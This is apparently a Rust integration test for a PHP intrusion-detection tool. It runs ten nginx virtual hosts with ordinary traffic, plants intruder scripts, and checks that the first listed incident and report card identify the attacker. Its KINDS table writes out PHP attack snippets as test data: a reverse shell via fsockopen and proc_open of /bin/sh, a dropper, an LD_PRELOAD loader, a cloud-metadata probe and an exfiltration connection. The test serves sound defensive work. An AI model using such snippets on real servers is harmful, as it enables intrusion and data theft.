//! The blind exercise: ten virtual hosts, an ordinary day, one intruder somewhere. The first line of `events --incidents` and the first
//! card of the report have to be him, with the right site, script, client, time and outcome.

use crate::harness::{Fpm, Guard, Listeners, Nginx, OUTSIDE4, Parts, Place, Pool, enter, http};
use serde_json::Value;
use std::path::PathBuf;

/// Where the sites have an interface that they are to reach, and where the intruder listens.
const INTERFACE: u16 = 8765;
const INTRUDER: u16 = 4444;
const SEEDS: u64 = 20;
const SITES: usize = 10;

/// What an ordinary site does: mail, pictures, feeds, a job.
const ORDINARY: [(&str, &str); 4] = [
    (
        "contact.php",
        "<?php $p = popen('/bin/cat > /dev/null', 'w'); fwrite($p, 'mail'); pclose($p); $more = 1; echo 'ok';",
    ),
    (
        "image.php",
        "<?php $n = (int) $_GET['n']; echo strlen(shell_exec(\"/usr/bin/sha1sum -t /dev/null /tmp/php$n.jpg 2>/dev/null\"));",
    ),
    ("feed.php", "<?php $s = @fsockopen('ADDRESS', INTERFACE, $e, $m, 2); echo 'ok';"),
    ("job.php", "<?php exec('/bin/date +%s', $out); echo 'ok';"),
];

/// What an intruder does by a script of his own, a call each.
const KINDS: [(&str, &[&str]); 7] = [
    ("shell", &["shell_exec('id');", "shell_exec('cat /etc/hostname');", "shell_exec('uname -a; ls /');"]),
    (
        "reverse",
        &[
            "$s = fsockopen('ADDRESS', INTRUDER); $p = proc_open(['/bin/sh', '-c', 'id'], [$s, $s, $s], $x); proc_close($p);",
        ],
    ),
    (
        "dropper",
        &["copy('/bin/true', '/tmp/.x1'); chmod('/tmp/.x1', 0755);", "shell_exec('/tmp/.x1'); unlink('/tmp/.x1');"],
    ),
    ("loader", &["putenv('LD_PRELOAD=/tmp/none.so'); shell_exec('true 2>/dev/null'); putenv('LD_PRELOAD');"]),
    ("listener", &["$s = stream_socket_server('tcp://127.0.0.1:5555'); fclose($s);"]),
    ("metadata", &["@fsockopen('169.254.169.254', 80, $e, $m, 0.2);", "shell_exec('env');"]),
    ("exfiltration", &["@fsockopen('ADDRESS', INTRUDER, $e, $m, 2);", "shell_exec('tar c /etc/hostname | wc -c');"]),
];

/// Numbers that look random: splitmix64.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut next = self.0;
        next = (next ^ next >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        next = (next ^ next >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((next ^ next >> 31) % limit as u64) as usize
    }
}

struct Sites {
    place: Place,
    guard: Guard,
    nginx: Nginx,
    _fpm: Fpm,
}

fn filled(text: &str) -> String {
    let interface = text.replace("INTERFACE", &INTERFACE.to_string()).replace("INTRUDER", &INTRUDER.to_string());
    interface.replace("ADDRESS", OUTSIDE4)
}

fn sites() -> Sites {
    let place = Place::new();
    let mut config = "mode = \"audit\"\n".to_owned();
    for site in 0..SITES {
        for (name, page) in ORDINARY {
            place.write(&format!("www/site{site}/{name}"), &filled(page));
        }
        let root = place.join(&format!("www/site{site}"));
        config += &format!("[[vhost]]\nname = \"site{site}\"\nmatch = {{ document_root = \"{}\" }}\n", root.display());
    }
    let guard = place.guard_of_every_event(&config);
    // A script that has changed is read again at once.
    let pool = Pool { lines: "php_admin_value[opcache.enable] = 0".to_owned(), ..Pool::default() };
    let fpm = Fpm::start(&place, Some(&guard), &pool);
    // The client is who the test says.
    let location = |root: PathBuf| {
        let facts =
            format!("fastcgi_param DOCUMENT_ROOT {}; fastcgi_param REMOTE_ADDR $http_x_client;", root.display());
        let location = fpm.nginx_location(&root).replace("include /etc/nginx/fastcgi_params;", &facts);
        location.replace("fastcgi_pass", "fastcgi_param REQUEST_METHOD $request_method; fastcgi_param QUERY_STRING $query_string; fastcgi_param REQUEST_URI $request_uri; fastcgi_param SERVER_NAME $server_name; fastcgi_param HTTP_HOST $http_host; fastcgi_pass")
    };
    let mut servers = String::new();
    for site in 1..SITES {
        let root = place.join(&format!("www/site{site}"));
        let listen = format!("server {{ listen 127.0.0.1:8081; server_name site{site}; root {};\n", root.display());
        servers += &format!("}}\n{listen}{}\n", location(root));
    }
    let nginx = Nginx::start(&place, None, &format!("{}\n{servers}", location(place.join("www/site0"))));
    Sites { place, guard, nginx, _fpm: fpm }
}

impl Sites {
    fn ask(&self, site: usize, path: &str, client: &str) {
        let host = format!("site{site}\r\nX-Client: {client}");
        let answer = http::get_host(self.nginx.port, &host, path);
        assert_eq!(answer.status, 200, "{site}{path}: {}", answer.body);
    }

    fn ordinary(&self, numbers: &mut Numbers) {
        let page = ORDINARY[numbers.below(ORDINARY.len())].0;
        let client = format!("198.51.100.{}", 1 + numbers.below(200));
        self.ask(numbers.below(SITES), &format!("/{page}?n={}", numbers.below(100_000)), &client);
    }

    /// What the command says of the log.
    fn said(&self, log: &std::path::Path, words: &[&str]) -> String {
        let done = self.place.portcullis().args(words).arg(log).output().expect("portcullis");
        assert!(done.status.success(), "{words:?}: {}", String::from_utf8_lossy(&done.stderr));
        String::from_utf8_lossy(&done.stdout).into_owned()
    }
}

#[test]
fn the_intruder_is_the_first_line() {
    enter();
    let _listeners = Listeners::on(&[INTERFACE, INTRUDER]);
    let sites = sites();
    let mut events = sites.guard.events();
    for seed in 0..SEEDS {
        let mut numbers = Numbers(seed);
        // Every kind is there, and each third time the intruder comes by a script that others use, too.
        let (kind, calls) = KINDS[seed as usize % KINDS.len()];
        let (site, client) = (numbers.below(SITES), format!("192.88.1.{}", 20 + numbers.below(200)));
        let by_own_script = seed % 3 != 2;
        let script = if by_own_script { format!("up{}.php", numbers.below(100)) } else { "contact.php".to_owned() };
        let own = calls.iter().enumerate().map(|(at, call)| format!("if ($_GET['do'] === '{at}') {{ {call} }}\n"));
        let body = filled(&format!("<?php {} echo 'ok';", own.collect::<String>()));
        let file = format!("www/site{site}/{script}");
        let before = std::fs::read_to_string(sites.place.join(&file)).unwrap_or_default();
        let with_hole = before.replace("$more = 1;", body.trim_start_matches("<?php ").trim_end_matches("echo 'ok';"));
        for _ in 0..40 {
            sites.ordinary(&mut numbers);
        }
        sites.place.write(&file, if by_own_script { &body } else { &with_hole });
        let mut lines = events.fresh();
        let begun = lines.last().map(|event| event.text("@timestamp").to_owned()).unwrap_or_default();
        for at in 0..calls.len() {
            sites.ask(site, &format!("/{script}?do={at}"), &client);
            sites.ordinary(&mut numbers);
        }
        lines.extend(events.fresh());
        let ended = lines.last().map(|event| event.text("@timestamp").to_owned()).unwrap_or_default();
        match by_own_script {
            true => std::fs::remove_file(sites.place.join(&file)).expect("the script"),
            false => drop(sites.place.write(&file, &before)),
        }
        for _ in 0..40 {
            sites.ordinary(&mut numbers);
        }
        lines.extend(events.fresh());
        let lines: String = lines.iter().map(|event| format!("{event}\n")).collect();
        let log = sites.place.write(&format!("seed{seed}.jsonl"), &lines);
        let listed = sites.said(&log, &["events", "--incidents"]);
        let shown = format!("seed {seed}, {kind}, site{site}, {script}, {client}:\n{listed}");
        let first: Value = serde_json::from_str(
            sites.said(&log, &["events", "--incidents", "--json"]).lines().next().unwrap_or_default(),
        )
        .unwrap_or_else(|error| panic!("{error}: {shown}"));
        assert_eq!(first["sites"], serde_json::json!([format!("site{site}")]), "{shown}");
        assert_eq!(first["clients"], serde_json::json!([client]), "{shown}");
        assert_eq!(first["outcome"], "not blocked", "{shown}");
        let scripts = first["scripts"].as_array().map(Vec::as_slice).unwrap_or_default();
        assert!(scripts.len() == 1 && scripts[0].as_str().is_some_and(|path| path.ends_with(&script)), "{shown}");
        for time in [&first["first"], &first["last"]] {
            let second = |time: &str| time.get(..19).unwrap_or_default().to_owned();
            let time = second(time.as_str().unwrap_or_default());
            assert!(second(&begun) <= time && time <= second(&ended), "{time}: {shown}");
        }
        let title = first["title"].as_str().expect("a title");
        // What became of it has a column of its own.
        let what = title.strip_suffix(", not blocked").expect("an outcome");
        assert!(listed.lines().next().is_some_and(|line| line.ends_with(what)), "{title}: {shown}");
        let page = sites.said(&log, &["report"]);
        let card = page.split_once("<li class=\"card\"").and_then(|(_, rest)| rest.split_once("</li>"));
        let card = card.unwrap_or_else(|| panic!("no card: {shown}")).0;
        let shown = format!("{shown}\n{card}");
        assert_eq!(fact(card, "Site"), format!("site{site}"), "{shown}");
        assert_eq!(fact(card, "Client"), client, "{shown}");
        assert!(fact(card, "Script").ends_with(&format!("/site{site}/{script}")), "{shown}");
        assert_eq!(fact(card, "Outcome"), "not blocked", "{shown}");
        let times: Vec<&str> = card.split("datetime=\"").skip(1).filter_map(|rest| rest.get(..19)).collect();
        let within = |time: &&str| begun.get(..19) <= Some(*time) && Some(*time) <= ended.get(..19);
        assert!(!times.is_empty() && times.iter().all(within), "{begun} to {ended}: {times:?}: {shown}");
        assert!(card.contains("badge ahead"), "{shown}");
    }
}

/// The text of a fact of a card.
fn fact(card: &str, name: &str) -> String {
    let value = card.split_once(&format!("<dt>{name}</dt><dd>")).and_then(|(_, rest)| rest.split_once("</dd>"));
    let mut text = String::new();
    for part in value.map_or("", |(value, _)| value).split('<') {
        text.push_str(part.split_once('>').map_or(part, |(_, text)| text));
    }
    text
}
